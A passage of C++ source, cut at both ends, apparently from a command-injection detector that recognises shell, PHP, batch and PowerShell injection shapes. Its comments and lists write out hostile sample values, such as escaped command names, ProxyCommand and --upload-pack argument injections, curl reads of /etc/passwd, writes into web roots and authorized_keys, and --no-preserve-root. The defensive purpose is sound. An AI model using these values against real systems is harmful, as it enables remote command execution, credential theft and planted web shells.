                             std::string(v.substr(d + 1, e - d - 1)) + "())",
                         80, d - 1, close + 3 - (d - 1));
      }
    }
    if (StatementBreakout(v, m)) return true;
    if (size_t len = 0; mask.Has(')')) {
      if (const size_t at = FindPhpStatementCall(v, &len); at != std::string_view::npos) {
        return FillMatch(m, "cmdi.php_statement_call",
                         "PHP call of " + std::string(v.substr(at, len - 1)) +
                             "() as a statement of its own: files, process or settings",
                         80, at, len);
      }
    }
    return false;
  }

  // A command word written in bash's ANSI-C quoting as escape codes only,
  // where a command starts: "$'\x69\x64'" runs id, "; $'\143\141\164'
  // /etc/passwd" runs cat. Prose never writes "$'" followed by escapes.
  static bool AnsiCCommand(std::string_view v, Match* m) {
    int checks = 8;
    for (size_t d = v.find("$'"); d != std::string_view::npos && checks-- > 0;
         d = v.find("$'", d + 2)) {
      size_t b = BlanksBefore(v, d);
      const bool command_position = b == 0 || v[b - 1] == ';' || v[b - 1] == '|' ||
                                    v[b - 1] == '&' || v[b - 1] == '\n' || v[b - 1] == '`' ||
                                    (v[b - 1] == '(' && b >= 2 && v[b - 2] == '$');
      if (!command_position) continue;
      int escapes = 0;
      size_t e = d + 2;
      while (e < v.size() && e - d < 128 && v[e] == '\\') {
        size_t digits = e + 1;
        if (IAt(v, digits, "x")) {
          ++digits;
          while (digits < v.size() && digits - e <= 3 && scan::IsHex(v[digits])) ++digits;
          if (digits == e + 2) break;
        } else {
          while (digits < v.size() && digits - e <= 3 && v[digits] >= '0' && v[digits] <= '7') {
            ++digits;
          }
          if (digits == e + 1) break;
        }
        ++escapes;
        e = digits;
      }
      if (escapes >= 2 && e < v.size() && v[e] == '\'') {
        return FillMatch(m, "cmdi.substitution",
                         "Shell command name written as escape codes in $'...' quoting", 80, d,
                         e + 1 - d);
      }
    }
    return false;
  }

  // Web-server configuration that makes PHP run what is uploaded or sent,
  // the lines of an uploaded .htaccess: "AddType application/x-httpd-php
  // .jpg", "SetHandler application/x-httpd-php", "php_value
  // auto_prepend_file /tmp/x", "php_flag engine on".
  // (Found from the '/' and the '_', which prose holds far less often than
  // the letters around them.)
  static bool InspectPhpHandler(std::string_view v, const CharMask& mask, Match* m) {
    constexpr std::string_view kHandler = "application/x-httpd-php";
    for (size_t s = mask.Has('/') && mask.Has('-') ? v.find('/') : std::string_view::npos;
         s != std::string_view::npos; s = v.find('/', s + 1)) {
      if (s < 11 || !IAt(v, s - 11, kHandler)) continue;
      const size_t k = s - 11;
      size_t b = BlanksBefore(v, k);
      size_t n = b;
      while (n > 0 && b - n < 16 && IsAlpha(v[n - 1])) --n;
      if (b > n && b < k &&
          scan::IEqualsAny(v.substr(n, b - n),
                           {"addtype", "addhandler", "sethandler", "forcetype"})) {
        return FillMatch(m, "cmdi.php_handler_directive",
                         "Web server directive that hands files to PHP to run", 80, n,
                         k + kHandler.size() - n);
      }
    }
    for (size_t u = mask.Has('_') ? v.find('_') : std::string_view::npos;
         u != std::string_view::npos; u = v.find('_', u + 1)) {
      if (u < 3 || !IAt(v, u - 3, "php_")) continue;
      const size_t k = u - 3;
      if (k > 0 && (IsAlnum(v[k - 1]) || v[k - 1] == '_')) continue;
      size_t e = k + 4;
      if (IAt(v, e, "admin_")) e += 6;
      if (!IAt(v, e, "value") && !IAt(v, e, "flag")) continue;
      e += IAt(v, e, "value") ? 5 : 4;
      const size_t a = SkipBlanks(v, e);
      if (a == e) continue;
      size_t z = a;
      while (z < v.size() && z - a < 24 && (IsAlnum(v[z]) || v[z] == '_' || v[z] == '.')) ++z;
      if (z < v.size() && !IsBlank(v[z])) continue;
      const std::string_view directive = v.substr(a, z - a);
      if (scan::IEqualsAny(directive, kPhpIncludeDirectives) ||
          scan::IEqualsAny(directive, {"allow_url_fopen", "engine", "disable_functions",
                                       "open_basedir", "include_path"})) {
        return FillMatch(
            m, "cmdi.php_ini_directive",
            "Web server directive that changes how PHP runs code: " + std::string(directive), 80, k,
            z - k);
      }
    }
    return false;
  }

  // Options of the tools an application runs with a value as one argument
  // (git, tar, find, ssh, rsync, zip, curl, wget), smuggled in as the start
  // of a new option: one that runs a command ("--upload-pack=touch x",
  // "--checkpoint-action=exec=sh s.sh", "-oProxyCommand=...", "-exec sh -c
  // id \;") or, beside a URL, one that writes the download to a server path
  // ("http://x/s.txt -o /var/www/html/s.php"). The value must open with an
  // option, a path, a glob or a URL, as an argument list does; prose that
  // names an option ("use -o to save it") opens with a word.
  static bool ArgumentInjection(std::string_view v, Match* m) {
    if (v.size() > 4096) return false;
    const auto skip = [&v](size_t k) {
      while (k < v.size() && (v[k] == ' ' || v[k] == '\t')) ++k;
      return k;
    };
    const auto word_end = [&v](size_t k) {
      while (k < v.size() && v[k] != ' ' && v[k] != '\t') ++k;
      return k;
    };
    // The first word decides before anything is read further: an option, a
    // path, a glob, a URL or git's "ext::".
    const size_t start = skip(0);
    if (start >= v.size()) return false;
    const char c = v[start];
    const std::string_view first = v.substr(start, word_end(start) - start);
    const bool ext = first.starts_with("ext::");
    // An ssh URL whose host is an option (git, svn and hg hand the host to
    // ssh as an argument): "ssh://-oProxyCommand=id/x".
    if (const size_t colon = first.find("://");
        colon != std::string_view::npos && colon >= 3 && colon <= 8 &&
        scan::IEquals(first.substr(colon - 3, 3), "ssh")) {
      size_t h = colon + 3;
      const size_t at = first.find('@', h);
      if (at != std::string_view::npos && at < first.find('/', h)) h = at + 1;
      if (h + 1 < first.size() && first[h] == '-' && IsAlpha(first[h + 1])) {
        return FillMatch(m, "cmdi.argument_injection",
                         "an ssh URL's host is an option handed to ssh", 80, start + h,
                         first.size() - h);
      }
    }
    // A file name the tool is given first ("x.zip -T --unzip-command=...").
    const auto file_name = [](std::string_view w) {
      const size_t dot = w.rfind('.');
      if (w.size() > 64 || dot == 0 || dot == std::string_view::npos || dot + 1 == w.size()) {
        return false;
      }
      for (char x : w) {
        if (!IsAlnum(x) && x != '.' && x != '_' && x != '-') return false;
      }
      return true;
    };
    // (A number or an image geometry opens ImageMagick's arguments: "85
    // -write /var/www/x.php", "800x600 -write ...".)
    // (A name pattern opens find's: "x -o -exec curl ... ;". A whole find
    // command line is the tool's own.)
    // (The action's end is read first: prose rarely ends in ';' or '+'.)
    const auto find_exec_follows = [&v] {
      const size_t last = v.find_last_not_of(" \t");
      if (last == std::string_view::npos || (v[last] != ';' && v[last] != '+')) return false;
      for (std::string_view o : {" -exec ", " -execdir ", " -ok ", " -okdir "}) {
        if (scan::Find(v, o) != std::string_view::npos) return true;
      }
      return false;
    };
    if (c != '-' && c != '/' && c != '.' && c != '*' && c != '~' && !IsDigit(c) &&
        !(scan::IsAlpha(c) &&
          (ext || first.find("://") != std::string_view::npos || file_name(first) ||
           (first != "find" && find_exec_follows())))) {
      return false;
    }
    // Every rule below needs an option: at the start or after a blank.
    if (c != '-' && !v.starts_with("ext::") && scan::Find(v, " -") == std::string_view::npos &&
        scan::Find(v, "\t-") == std::string_view::npos) {
      return false;
    }
    struct Arg {
      size_t at;
      std::string_view text;
    };
    std::array<Arg, 24> args{};
    size_t n = 0;
    for (size_t k = start; k < v.size() && n < args.size(); k = skip(k)) {
      const size_t e = word_end(k);
      args[n++] = Arg{k, v.substr(k, e - k)};
      k = e;
    }
    if (ext && n > 1) {
      // git's remote helper that runs the rest as a command.
      return FillMatch(m, "cmdi.argument_injection",
                       "git ext:: transport that runs a command as the remote", 80, start,
                       first.size());
    }
    bool url = false;
    bool find_end = false;
    for (size_t i = 0; i < n; ++i) {
      const std::string_view a = args[i].text;
      url = url || a.find("://") != std::string_view::npos;
      find_end = find_end || a == ";" || a == "\\;" || a == "+" || a == "'{}'" ||
                 a == "{}" || a == "';'";
    }
    auto path_like = [](std::string_view a) {
      while (!a.empty() && (a.front() == '\'' || a.front() == '"')) a.remove_prefix(1);
      if (a.empty()) return false;
      if (a[0] == '/' || a[0] == '~' || a.starts_with("./") || a.starts_with("../")) return true;
      const size_t dot = a.rfind('.');
      return dot != std::string_view::npos &&
             scan::IEqualsAny(a.substr(dot + 1), {"php", "phtml", "phar", "jsp", "jspx", "asp",
                                                 "aspx", "cgi", "pl", "sh", "py"});
    };
    for (size_t i = 0; i < n; ++i) {
      const std::string_view a = args[i].text;
      if (a.size() < 2 || a[0] != '-') continue;
      const size_t eq = a.find('=');
      const std::string_view name = a.substr(0, eq);
      const std::string_view next = i + 1 < n ? args[i + 1].text : std::string_view();
      const std::string_view arg = eq != std::string_view::npos ? a.substr(eq + 1) : next;
      const size_t len = (i + 1 < n ? args[i + 1].at + next.size() : args[i].at + a.size()) -
                         args[i].at;
      const bool runs =
          !arg.empty() &&
          (scan::EqualsAny(name, {"--upload-pack", "--receive-pack", "--checkpoint-action",
                                  "--to-command", "--use-compress-program", "--rsh",
                                  "--rsync-path", "--unzip-command", "--info-script",
                                  "--new-volume-script", "--use-askpass",
                                  "--open-files-in-pager"}) ||
           scan::IAt(name, 0, "-oproxycommand") || scan::IAt(name, 0, "-olocalcommand") ||
           (name == "-o" && (scan::IAt(arg, 0, "proxycommand") ||
                             scan::IAt(arg, 0, "localcommand"))) ||
           (name == "-TT" && eq == std::string_view::npos));
      const bool find_exec = find_end && scan::EqualsAny(name, {"-exec", "-execdir", "-ok",
                                                                "-okdir"}) &&
                             !next.empty();
      // rsync's remote shell: "-e 'sh -c id'".
      std::string_view e_cmd = name == "-e" ? arg : std::string_view();
      while (!e_cmd.empty() && (e_cmd.front() == '\'' || e_cmd.front() == '"')) {
        e_cmd.remove_prefix(1);
      }
      const bool remote_shell = scan::EqualsAny(e_cmd, {"sh", "bash", "dash", "zsh", "ksh"});
      // scp's "-S program" with a remote "user@host:path" after it.
      bool scp_program = false;
      if (name == "-S" && eq == std::string_view::npos && path_like(next)) {
        for (size_t j = i + 2; j < n && !scp_program; ++j) {
          const std::string_view t = args[j].text;
          const size_t at = t.find('@');
          scp_program = at != std::string_view::npos && at > 0 &&
                        t.find(':', at) != std::string_view::npos;
        }
      }
      // Node's preloads ("--require /tmp/uploads/x.js" as NODE_OPTIONS).
      const bool preload =
          scan::EqualsAny(name, {"--require", "--import", "--loader", "--experimental-loader"}) &&
          path_like(arg);
      // rm's guard against deleting "/" turned off.
      const bool root_unguarded = name == "--no-preserve-root";
      if (runs || find_exec || remote_shell || scp_program || preload || root_unguarded) {
        return FillMatch(m, "cmdi.argument_injection",
                         "Option " + std::string(name) + " injected as an argument " +
                             (root_unguarded ? "lets rm delete the whole file system"
                                             : "runs a command"),
                         80, args[i].at, len);
      }
      // "--output=/var/www/html/s.php": even without a URL, a download
      // or a log written as a server-side script below a directory.
      if (!url &&
          (name == "--output" || name == "--output-document" || name == "-o" ||
           name == "-write") &&
          arg.find('/') != std::string_view::npos) {
        const size_t dot = arg.rfind('.');
        if (dot != std::string_view::npos && dot > arg.rfind('/') &&
            scan::IEqualsAny(arg.substr(dot + 1),
                             {"php", "phtml", "phar", "jsp", "jspx", "asp", "aspx"})) {
          return FillMatch(m, "cmdi.argument_injection",
                           "Option " + std::string(name) +
                               " injected as an argument writes a server-side script",
                           80, args[i].at, len);
        }
      }
      // "video.mp4 -f lavfi -i anullsrc -y /var/www/html/x.php": after an
      // injected option, a server-side script below a directory as the last
      // argument, where tools take the file they write.
      if (!url && i + 1 < n && a != "-" && ServerScriptPath(args[n - 1].text)) {
        return FillMatch(m, "cmdi.argument_injection",
                         "Option " + std::string(name) +
                             " injected before a server-side script path, the file written",
                         80, args[i].at, args[n - 1].at + args[n - 1].text.size() - args[i].at);
      }
      // "-o/var/www/x.php", "--output /tmp/x", "-O shell.php" beside a URL.
      if (url) {
        std::string_view out;
        if (name == "-o" || name == "-O" || name == "--output" || name == "--output-document" ||
            name == "--post-file" || name == "--upload-file" || name == "-T") {
          out = arg;
        } else if (name == "-d" || name == "-F" || name == "--form" ||
                   scan::IAt(name, 0, "--data")) {
          // curl sends the file an '@' names: "--data @/etc/passwd",
          // "-F f=@/etc/passwd".
          const size_t at = arg.find('@');
          if (at != std::string_view::npos) out = arg.substr(at + 1);
        } else if ((a.starts_with("-o") || a.starts_with("-O")) && a.size() > 2 &&
                   eq == std::string_view::npos) {
          out = a.substr(2);
        }
        if (!out.empty() && path_like(out)) {
          return FillMatch(m, "cmdi.argument_injection",
                           "Option " + std::string(name.substr(0, 2)) +
                               " injected beside a URL reads or writes a server file",
                           80, args[i].at, len);
        }
      }
    }
    return false;
  }

  // An absolute path (or ~/) to a script a web server runs: "/var/www/x.php".
  static bool ServerScriptPath(std::string_view p) {
    while (!p.empty() && (p.front() == '\'' || p.front() == '"')) p.remove_prefix(1);
    while (!p.empty() && (p.back() == '\'' || p.back() == '"')) p.remove_suffix(1);
    if (p.size() < 4 || (p[0] != '/' && !p.starts_with("~/"))) return false;
    const size_t dot = p.rfind('.');
    return dot != std::string_view::npos && dot > p.rfind('/') &&
           scan::IEqualsAny(p.substr(dot + 1),
                            {"php", "phtml", "phar", "jsp", "jspx", "asp", "aspx"});
  }

  // A redirection that writes a file the server then serves or runs, or one
  // that controls logins and scheduled jobs: "x.log > /var/www/html/i.html",
  // ">> ~/.ssh/authorized_keys", "> /etc/cron.d/x". The '>' stands alone
  // (not "->", "=>", ">=" or a tag's end) and a path follows it.
  static bool RedirectionIntoServerFile(std::string_view v, Match* m) {
    static constexpr std::string_view kWebRoots[] = {
        "/var/www/", "/srv/www/", "/srv/http/", "/usr/share/nginx/", "/usr/local/apache2/htdocs/",
        "/var/lib/tomcat", "/opt/lampp/htdocs/"};
    static constexpr std::string_view kControlFiles[] = {
        "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/crontab", "/etc/cron.", "/etc/profile",
        "/etc/ld.so.preload", "/etc/rc.local", "/var/spool/cron/", "/.ssh/authorized_keys",
        "/.bashrc", "/.bash_profile", "/.profile"};
    int checks = 16;
    for (size_t gt = v.find('>'); gt != std::string_view::npos && checks-- > 0;
         gt = v.find('>', gt + 1)) {
      if (gt > 0) {
        const char b = v[gt - 1];
        if (b == '-' || b == '=' || b == '<' || b == '"' || b == '\'' || b == '/' ||
            scan::IsAlpha(b)) {
          continue;
        }
      }
      size_t a = gt + 1;
      if (a < v.size() && v[a] == '>') ++a;
      if (a < v.size() && (v[a] == '=' || v[a] == '>')) continue;
      a = SkipBlanks(v, a);
      if (a >= v.size() || (v[a] != '/' && !scan::IAt(v, a, "~/"))) continue;
      size_t e = a;
      while (e < v.size() && e - a < 256 && !IsBlank(v[e]) && v[e] != ';' && v[e] != '&' &&
             v[e] != '|' && v[e] != '\'' && v[e] != '"') {
        ++e;
      }
      const std::string_view path = v.substr(a, e - a);
      bool hit = ServerScriptPath(path);
      for (std::string_view r : kWebRoots) hit = hit || (path.starts_with(r) && path.size() > r.size());
      for (std::string_view f : kControlFiles) hit = hit || scan::Find(path, f) != std::string_view::npos;
      if (hit) {
        return FillMatch(m, "cmdi.redirection",
                         "a shell redirection writes a file the server serves, runs or trusts",
                         80, gt, e - gt);
      }
    }
    return false;
  }

  // Sendmail's -X option, which logs all mail traffic to a file, pointed at
  // a script the web server runs: the arguments PHP's mail() and mailer
  // libraries pass on from an address or parameter ("-X/var/www/s.php",
  // "a@b.c -OQueueDirectory=/tmp -X/var/www/html/x.php").
  static bool SendmailLogOption(std::string_view v, Match* m) {
    int checks = 8;
    // Found from the 'X', which prose holds far less often than a '-'.
    for (size_t x = v.find('X', 1); x != std::string_view::npos && checks > 0;
         x = v.find('X', x + 1)) {
      if (v[x - 1] != '-') continue;
      --checks;
      const size_t k = x - 1;
      if (k > 0 && !IsBlank(v[k - 1]) && v[k - 1] != '\'' && v[k - 1] != '"') continue;
      const size_t a = SkipBlanks(v, k + 2);
      if (a >= v.size() || (v[a] != '/' && v[a] != '.')) continue;
      size_t e = a;
      while (e < v.size() && e - a < 256 && !IsBlank(v[e]) && v[e] != '\'' && v[e] != '"') ++e;
      const std::string_view path = v.substr(a, e - a);
      const size_t dot = path.rfind('.');
      if (dot == std::string_view::npos) continue;
      if (scan::IEqualsAny(path.substr(dot + 1),
                           {"php", "phtml", "php5", "phar", "jsp", "asp", "aspx", "cgi"})) {
        return FillMatch(m, "cmdi.sendmail_arguments",
                         "Sendmail -X option that logs mail into a server script", 80, k, e - k);
      }
    }
    return false;
  }

  // Ruby's %x(...) and Perl's qx(...), with any of their bracket or quote
  // delimiters, run what they enclose as a shell command, as backticks do:
  // `%x('ls -al /')`, `qx{id}`. What they enclose is judged as a
  // substitution. "%x" in a format string ("%x(%d)") encloses no command.
  static bool CommandLiteral(std::string_view v, const CharMask& mask, size_t last_paren,
                             Match* m) {
    static constexpr uint64_t kX = CharMask::AlnumOf("x");
    static constexpr uint64_t kQ = CharMask::AlnumOf("q");
    if (!mask.HasAlnumOf(kX)) return false;
    int checks = 4;
    // The closing delimiters looked for in vain: none occurs further on.
    std::string_view::size_type missing = 0;
    // Found from the '%' or 'q' (prose holds both far less often than 'x'),
    // one byte at a time with memchr.
    for (const char lead : {'%', 'q'}) {
      if (lead == '%' ? !mask.Has('%') : !mask.HasAlnumOf(kQ)) continue;
      for (size_t s = v.find(lead); s != std::string_view::npos && s + 2 < v.size();
           s = v.find(lead, s + 1)) {
        if (CommandLiteralAt(v, s, last_paren, &checks, &missing, m)) return true;
        if (checks <= 0) return false;
      }
    }
    return false;
  }

  // CommandLiteral() at `s`, the '%' or 'q' (s + 2 < v.size()). `*missing`
  // has bit k set once delimiter k of kCloses was not found.
  static bool CommandLiteralAt(std::string_view v, size_t s, size_t last_paren, int* checks,
                               std::string_view::size_type* missing, Match* m) {
    static constexpr std::string_view kCloses = ")}]>|!/'\"";
    const size_t p = s + 1;
    if (v[p] != 'x') return false;
    if (s >= 1 && (IsAlnum(v[s - 1]) || v[s - 1] == '_' || v[s - 1] == '%')) return false;
    const char open = v[p + 1];
    char close = 0;
    switch (open) {
      case '(': close = ')'; break;
      case '{': close = '}'; break;
      case '[': close = ']'; break;
      case '<': close = '>'; break;
      case '|': case '!': case '/': case '\'': case '"': close = open; break;
      default: return false;
    }
    const size_t bit = size_t{1} << kCloses.find(close);
    if (*missing & bit) return false;
    const size_t end = v.find(close, p + 2);
    if (end == std::string_view::npos) {
      *missing |= bit;
      return false;
    }
    size_t q = p + 2;
    // %x('ls'): a quoted string inside the parentheses is the command.
    if (open == '(' && q < v.size() && (v[q] == '\'' || v[q] == '"')) ++q;
    --*checks;
    // Read up to the closing delimiter: "%x[id]", "qx{id}".
    return CheckPosition(v.substr(0, end), q, Context::kSubstitution, m, false, last_paren,
                         checks);
  }

  // Where the call whose '(' is at `open` closes, skipping quoted strings
  // and nested calls; npos when it does not within 256 bytes.
  static size_t CallCloses(std::string_view v, size_t open) {
    int depth = 0;
    for (size_t k = open; k < v.size() && k - open < 256; ++k) {
      const char c = v[k];
      if (c == '\'' || c == '"' || c == '`') {
        const size_t q = v.find(c, k + 1);
        if (q == std::string_view::npos) return std::string_view::npos;
        k = q;
      } else if (c == '(') {
        ++depth;
      } else if (c == ')' && --depth == 0) {
        return k;
      }
    }
    return std::string_view::npos;
  }

  // A value that ends the statement it is pasted into (after closing its
  // quoted string, or a short word), calls a function, ends that statement
  // and comments out the rest of the line: `';exit(md5('x'));//`,
  // `a;print(1);#`, `".die(1);//` (code injected where a string is
  // evaluated, as PHP's eval() or a template compiler does). Whatever the
  // function is: a probe calls a harmless one to see it run. Without a
  // closing quote the comment is needed ("x;y(1);" stays clean).
  static bool StatementBreakout(std::string_view v, Match* m) {
    size_t p = 0;
    while (p < v.size() && p < 16 && (IsAlnum(v[p]) || v[p] == '_')) ++p;
    const bool quote = p < v.size() && (v[p] == '\'' || v[p] == '"');
    if (quote) ++p;
    for (int k = 0; k < 3 && p < v.size() && v[p] == ')'; ++k) ++p;
    if (p >= v.size() || !(v[p] == ';' || (quote && v[p] == '.'))) return false;
    size_t a = SkipBlanks(v, p + 1);
    if (a < v.size() && v[a] == '@') ++a;  // PHP's error suppression
    size_t e = a;
    while (e < v.size() && e - a <= 32 && (IsAlnum(v[e]) || v[e] == '_')) ++e;
    if (e == a || !IsAlpha(v[a]) || e >= v.size() || v[e] != '(') return false;
    const size_t close = CallCloses(v, e);
    if (close == std::string_view::npos) return false;
    size_t t = SkipBlanks(v, close + 1);
    if (t >= v.size() || v[t] != ';') return false;
    t = SkipBlanks(v, t + 1);
    const bool comment = IAt(v, t, "//") || IAt(v, t, "/*") || (t < v.size() && v[t] == '#');
    if (!comment && !(quote && t == v.size())) return false;
    return FillMatch(m, "cmdi.statement_breakout",
                     "the value ends a statement, calls " + std::string(v.substr(a, e - a)) +
                         "() and comments out the rest of the line",
                     80, 0, t);
  }

  static bool InspectSsi(std::string_view v, Match* m) {
    // "<!--#exec", also with spaces after the '<' ("< !--#exec cmd=..."),
    // which some filters and parsers let through.
    size_t p = std::string_view::npos;
    for (size_t b = scan::Find(v, "!--#");
         b != std::string_view::npos && p == std::string_view::npos;
         b = scan::Find(v, "!--#", b + 4)) {
      size_t lt = b;
      while (lt > 0 && v[lt - 1] == ' ') --lt;
      if (lt > 0 && v[lt - 1] == '<') p = b - 1;
    }
    if (p != std::string_view::npos) {
      for (std::string_view d : {"exec", "include", "echo", "config", "printenv", "set ", "fsize",
                                 "flastmod", "if "}) {
        if (IAt(v, p + 5, d)) {
          return FillMatch(m, "cmdi.ssi_directive",
                           "Server-side include directive that runs commands or reads files", 85, p,
                           5 + d.size());
        }
      }
    }
    p = scan::IFind(v, "<esi:");
    if (p != std::string_view::npos) {
      return FillMatch(m, "cmdi.esi_directive", "Edge-side include tag injected into a value", 75,
                       p, 5);
    }
    return false;
  }

  // --- cmd.exe control statements -------------------------------------------

  // `word` (lower case) at p, case-insensitively, followed by a blank, the
  // end, or one of `follow`.
  static bool BatchWordAt(std::string_view v, size_t p, std::string_view word,
                          std::string_view follow = "") {
    if (!IAt(v, p, word)) return false;
    size_t e = p + word.size();
    return e == v.size() || IsBlank(v[e]) || follow.find(v[e]) != std::string_view::npos;
  }

  // The length of whichever of `words` BatchWordAt() finds at p, or 0.
  static size_t BatchWordOf(std::string_view v, size_t p,
                            std::initializer_list<std::string_view> words) {
    for (std::string_view w : words) {
      if (BatchWordAt(v, p, w)) return w.size();
    }
    return 0;
  }

  // One operand of an IF condition or a FOR option: "quoted", [bracketed],
  // (parenthesized), {braced}, or a run of non-blank bytes that stops at
  // "==". Returns its end (p when there is none); `*shaped` is set when it
  // is quoted or bracketed or holds a %variable% or !variable!.
  static size_t BatchOperand(std::string_view v, size_t p, bool* shaped) {
    if (p >= v.size()) return p;
    const char open = v[p];
    const char close = open == '"' ? '"' : open == '[' ? ']' : open == '(' ? ')'
                                                        : open == '{' ? '}' : 0;
    size_t e = p;
    if (close != 0) {
      size_t c = v.find(close, p + 1);
      if (c == std::string_view::npos || c - p > 256) return p;
      e = c + 1;
      *shaped = true;
    } else {
      while (e < v.size() && e - p < 256 && !IsBlank(v[e]) && !scan::IsSpace(v[e]) &&
             !(v[e] == '=' && e + 1 < v.size() && v[e + 1] == '=')) {
        ++e;
      }
    }
    for (size_t k = p; k < e; ++k) *shaped = *shaped || v[k] == '%' || v[k] == '!';
    return e;
  }

  // Whether a command follows at p ('(' block, '@'-silenced or a word), and
  // whether it is one a batch file runs (a known command or a cmd.exe
  // built-in for flow control).
  static bool BatchCommandAt(std::string_view v, size_t p, bool* known) {
    if (p >= v.size()) return false;
    if (v[p] == '(' || v[p] == '@') {
      *known = true;
      return true;
    }
    if (!IsAlpha(v[p])) return false;
    size_t e = p;
    while (e < v.size() && e - p < 24 && (IsAlnum(v[e]) || v[e] == '_' || v[e] == '.')) ++e;
    const std::string_view name = v.substr(p, e - p);
    static constexpr std::string_view kFlow[] = {"goto", "call", "exit", "rem", "cd", "md",
                                                 "rd", "ren", "move", "shift", "start",
                                                 "pause", "setlocal", "if", "for"};
    *known = *known || scan::IEqualsAny(name, kFlow) ||
             LookupAnyCase(name, /*strip_exe=*/true) != Tier::kNone;
    return true;
  }

  // FOR [/D | /R [path] | /L | /F ["options"]] %%x IN (set) DO command.
  static bool BatchForAt(std::string_view v, size_t p) {
    if (!BatchWordAt(v, p, "for")) return false;
    p = SkipBlanks(v, p + 3);
    for (int flags = 0; flags < 4 && p + 1 < v.size() && v[p] == '/' && IsAlpha(v[p + 1]);
         ++flags) {
      const char f = Lower(v[p + 1]);
      p = SkipBlanks(v, p + 2);
      if (p < v.size() && (v[p] == '"' || (f == 'r' && v[p] != '%' && v[p] != '/'))) {
        bool unused = false;
        size_t e = BatchOperand(v, p, &unused);
        if (e == p) return false;
        p = SkipBlanks(v, e);
      }
    }
    if (p >= v.size() || v[p] != '%') return false;
    if (++p < v.size() && v[p] == '%') ++p;
    if (p >= v.size() || IsBlank(v[p]) || scan::IsSpace(v[p])) return false;
    // One character (%%i, %~); the docs' "%variable" spells out a name.
    size_t after_var = p + 1;
    while (after_var < v.size() && after_var - p < 32 && IsAlnum(v[after_var])) ++after_var;
    p = SkipBlanks(v, after_var);
    if (p == after_var || !BatchWordAt(v, p, "in", "(")) return false;
    p = SkipBlanks(v, p + 2);
    if (p >= v.size() || v[p] != '(') return false;
    // The set may hold parentheses of its own ('set /a (1+2)'): any ')'
    // within reach that DO follows closes it.
    for (size_t close = v.find(')', p); close != std::string_view::npos && close - p <= 512;
         close = v.find(')', close + 1)) {
      if (BatchWordAt(v, SkipBlanks(v, close + 1), "do", "(@")) return true;
    }
    return false;
  }

  // IF [/I] [NOT] EXIST|DEFINED x command, IF [NOT] ERRORLEVEL|CMDEXTVERSION n
  // command, IF [/I] [NOT] a==b command, IF [/I] [NOT] a EQU|NEQ|LSS|LEQ|GTR|GEQ
  // b command. Prose has "if defined by the user": a match needs a batch
  // mark besides the shape (a /I switch, a %variable%, a quoted or bracketed
  // operand, a file name, a number after ERRORLEVEL, or a batch command).
  static bool BatchIfAt(std::string_view v, size_t p) {
    if (!BatchWordAt(v, p, "if")) return false;
    p = SkipBlanks(v, p + 2);
    bool marked = false;
    if (BatchWordAt(v, p, "/i")) {
      marked = true;
      p = SkipBlanks(v, p + 2);
    }
    if (BatchWordAt(v, p, "not")) p = SkipBlanks(v, p + 3);
    bool shaped = false;
    size_t e;
    if (size_t n = BatchWordOf(v, p, {"exist", "defined"}); n != 0) {
      p = SkipBlanks(v, p + n);
      e = BatchOperand(v, p, &shaped);
      if (e == p) return false;
      for (size_t k = p; k < e; ++k) shaped = shaped || v[k] == '.' || v[k] == '\\' || v[k] == ':';
    } else if (size_t n = BatchWordOf(v, p, {"errorlevel", "cmdextversion"}); n != 0) {
      p = SkipBlanks(v, p + n);
      e = p;
      while (e < v.size() && IsDigit(v[e])) ++e;
      if (e == p) return false;
      shaped = true;
    } else {
      e = BatchOperand(v, p, &shaped);
      if (e == p) return false;
      size_t q = SkipBlanks(v, e);
      if (IAt(v, q, "==")) {
        q = SkipBlanks(v, q + 2);
      } else {
        const size_t op = BatchWordOf(v, q, {"equ", "neq", "lss", "leq", "gtr", "geq"});
        if (op == 0 || q == e) return false;
        q = SkipBlanks(v, q + op);
      }
      e = BatchOperand(v, q, &shaped);
      if (e == q) return false;
    }
    size_t c = SkipBlanks(v, e);
    if (c == e) return false;
    bool known = false;
    if (!BatchCommandAt(v, c, &known)) return false;
    return marked || shaped || known;
  }

  // A FOR loop or IF statement where a command starts: the start of the
  // value (after quotes, blanks and '@') or after & | ; ( or a line break.
  // cmd.exe's substring of a variable, "%COMSPEC:~0,1%" or
  // "%ProgramFiles:~10,-5%": letters and blanks cut out of a variable to
  // spell a command without writing it. Batch files use the form; the data
  // a request carries does not.
  static bool VariableSubstring(std::string_view v, Match* m) {
    int checks = 16;
    for (size_t t = v.find(":~"); t != std::string_view::npos && checks-- > 0;
         t = v.find(":~", t + 2)) {
      size_t b = t;
      while (b > 0 && t - b < 40 && (scan::IsWordChar(v[b - 1]) || v[b - 1] == '(' ||
                                      v[b - 1] == ')')) {
        --b;
      }
      if (b == t || b == 0 || v[b - 1] != '%') continue;
      size_t k = t + 2;
      for (int part = 0; part < 2; ++part) {
        if (k < v.size() && v[k] == '-') ++k;
        const size_t d = k;
        while (k < v.size() && k - d < 6 && IsDigit(v[k])) ++k;
        if (k == d) break;
        if (part == 0 && k < v.size() && v[k] == ',') ++k;
      }
      if (k < v.size() && v[k] == '%' && IsDigit(v[k - 1])) {
        return FillMatch(m, "cmdi.variable_substring",
                         "cmd.exe variable substring (%VAR:~n,m%) spells part of a command", 80,
                         b - 1, k + 1 - (b - 1));
      }
    }
    return false;
  }

  // PowerShell's call of a .NET static method, "[System.Net.Dns]::GetHostByName(",
  // "[IO.File]::ReadAllText(", at the start of the value or after a separator.
  static bool PowerShellStaticCall(std::string_view v, Match* m) {
    int checks = 16;
    for (size_t t = v.find("]::"); t != std::string_view::npos && checks-- > 0;
         t = v.find("]::", t + 3)) {
      size_t b = t;
      bool dotted = false;
      while (b > 0 && t - b < 80 && (scan::IsWordChar(v[b - 1]) || v[b - 1] == '.')) {
        dotted = dotted || v[b - 1] == '.';
        --b;
      }
      // (Type accelerators name their class in one word: [ScriptBlock],
      // [Convert], [PowerShell].)
      static constexpr std::array<std::string_view, 7> kAccelerators = {
          "scriptblock", "convert", "powershell", "runspacefactory", "activator", "wmiclass",
          "adsi"};
      if (b == t || b == 0 || v[b - 1] != '[' || !IsAlpha(v[b]) ||
          !(dotted || scan::IEqualsAny(v.substr(b, t - b), kAccelerators))) {
        continue;
      }
      size_t a = b - 1;
      while (a > 0 && IsBlank(v[a - 1])) --a;
      const bool opens = a == 0 || v[a - 1] == ';' || v[a - 1] == '|' || v[a - 1] == '&' ||
                         v[a - 1] == '(' || v[a - 1] == '\n' || v[a - 1] == '\r';
      if (!opens) continue;
      size_t k = t + 3;
